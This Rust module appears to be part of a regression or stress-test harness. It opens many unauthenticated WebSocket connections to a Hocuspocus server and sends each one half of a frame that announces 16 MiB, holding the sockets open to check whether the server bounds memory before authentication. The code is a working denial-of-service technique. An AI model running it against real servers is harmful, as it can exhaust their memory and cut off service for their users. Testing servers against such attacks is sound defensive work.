//! `hocuspocus-preauth`: Hocuspocus sockets that never authenticate, each stalled halfway
//! through a frame that announces 16 MiB. Before the server bounded what a socket may send
//! before its first token, each such frame reserved its full length in the server.

use std::{
    sync::atomic::Ordering::Relaxed,
    time::{Duration, Instant},
};

use anyhow::{bail, Result};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

use super::attack::{attacker_connect, Attack};

/// Sockets one attacking task opens per round.
const SOCKETS: usize = 64;

/// Opens a Hocuspocus socket by hand (so it can send half a frame); `Ok(None)` if the
/// server refused the handshake.
async fn open(hostport: &str) -> Result<Option<TcpStream>> {
    let mut s = attacker_connect(hostport).await?;
    let req = format!(
        "GET /hocuspocus HTTP/1.1\r\nHost: {hostport}\r\nConnection: Upgrade\r\n\
         Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    );
    s.write_all(req.as_bytes()).await?;
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        if head.len() > 4096 || s.read(&mut byte).await? == 0 {
            bail!("handshake answer cut short");
        }
        head.push(byte[0]);
    }
    Ok(head.starts_with(b"HTTP/1.1 101").then_some(s))
}

impl Attack {
    pub(super) async fn hocuspocus_preauth(&self) -> Result<()> {
        let hostport = self.base.trim_start_matches("http://").to_string();
        // A masked binary frame announcing 16 MiB, and 64 KiB of it.
        let mut half = vec![0x82, 0x80 | 127];
        half.extend((16u64 << 20).to_be_bytes());
        half.extend([1, 2, 3, 4]);
        half.extend(vec![0u8; 64 * 1024]);
        let mut held = Vec::new();
        for _ in 0..SOCKETS {
            if Instant::now() >= self.deadline {
                break;
            }
            let opened = tokio::time::timeout(Duration::from_secs(2), open(&hostport)).await;
            let Ok(Ok(Some(mut s))) = opened else {
                self.counters.refused.fetch_add(1, Relaxed);
                continue;
            };
            // The server may stop reading: the kernel buffers take what they take.
            let _ = tokio::time::timeout(Duration::from_millis(200), s.write_all(&half)).await;
            self.counters.sent.fetch_add(1, Relaxed);
            held.push(s);
        }
        // Held until the deadline, or until the server closes them.
        let rest = self.deadline.saturating_duration_since(Instant::now());
        tokio::time::sleep(rest.min(Duration::from_secs(12))).await;
        let mut buf = [0u8; 64];
        for s in &mut held {
            // Anything from the server now is its close frame, or the end of the stream.
            if let Ok(Ok(_)) =
                tokio::time::timeout(Duration::from_millis(1), s.read(&mut buf)).await
            {
                self.counters.closed.fetch_add(1, Relaxed);
            }
        }
        Ok(())
    }
}
